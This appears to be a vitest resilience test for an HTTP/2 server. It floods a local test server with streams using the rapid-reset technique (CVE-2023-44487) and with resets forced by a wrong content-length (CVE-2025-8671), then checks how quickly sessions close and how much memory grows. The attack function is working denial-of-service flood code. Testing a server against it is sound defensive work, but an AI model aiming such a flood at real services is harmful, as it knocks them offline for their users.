import { connect } from 'node:net';
import { expect, test } from 'vitest';
import { DATA, END_STREAM, OPENING, RST_STREAM, frame, get, post, uint32 } from '../_frames.ts';
import { besieged } from './_siege.ts';

/** Streams that are reset in all: a million in the long form. */
const RESETS = Number(process.env['HOSTILE_RESETS'] ?? 50_000);
const CANCEL = 8;
/** Streams of a write, and of a session at the most: identifiers end there (RFC 9113 5.1.1). */
const BATCH = 500;
const LAST = 2 ** 30 - BATCH;

/** MiB that V8 lets lie before it collects; what is in use the siege itself holds to its start. */
const GARBAGE = 256;
/** Milliseconds an honest client may wait behind such sessions, one of which follows the other. */
const BETWEEN = 1000;

const siege = besieged();

const rapid = (stream: number): Buffer =>
  Buffer.concat([get(stream, '/bytes/100000'), frame(RST_STREAM, 0, stream, uint32(CANCEL))]);
const forced = (stream: number): Buffer =>
  Buffer.concat([
    post(stream, '/post', ['content-length', '1']),
    frame(DATA, END_STREAM, stream, Buffer.from('ab')),
  ]);

interface Session {
  /** Streams whose bytes were taken from the attacker. */
  readonly resets: number;
  /** Milliseconds until the service closed it. */
  readonly lifetime: number;
}

/** Streams as fast as they are taken, on one session, until the service closes it. */
function attack(make: (stream: number) => Buffer): Promise<Session> {
  return new Promise((resolve) => {
    let at = 0;
    let began = 0;
    const socket = connect(siege.port, '127.0.0.1', () => {
      began = performance.now();
      socket.write(OPENING);
      flood();
    });
    const length = make(1).length;
    const flood = (): void => {
      while (!socket.destroyed && at < LAST) {
        const batch = Array.from({ length: BATCH }, (_, index) => make(2 * (at + index) + 1));
        at += BATCH;
        if (!socket.write(Buffer.concat(batch))) return;
      }
    };
    socket
      .on('drain', flood)
      .on('error', () => undefined)
      .resume();
    socket.once('end', () => socket.destroy());
    socket.once('close', () => {
      const resets = Math.floor((socket.bytesWritten - socket.writableLength) / length);
      resolve({ resets, lifetime: performance.now() - began });
    });
  });
}

test.each([
  ['rapid reset (CVE-2023-44487)', RESETS, rapid],
  ['resets forced by a wrong length (CVE-2025-8671)', RESETS / 2, forced],
] as const)(
  '%s, the attacker comes again',
  async (name, count, make) => {
    let resets = 0;
    let sessions = 0;
    let slowest = 0;
    const act = async (): Promise<number> => {
      // What the code and the pools for such requests take is taken once.
      await attack(make);
      return siege.growth(async () => {
        while (resets < count) {
          const session = await attack(make);
          resets += session.resets;
          slowest = Math.max(slowest, session.lifetime);
          sessions++;
        }
      });
    };
    const growth = await siege.withstand(name, act, BETWEEN);
    process.stdout.write(
      `  ${resets} streams reset on ${sessions} sessions, each closed within ${slowest.toFixed(0)} ms; ` +
        `resident + ${growth.toFixed(0)} MiB at most\n`,
    );
    expect(slowest).toBeLessThan(2000);
    expect(growth).toBeLessThan(GARBAGE);
  },
  60_000 + RESETS / 2,
);
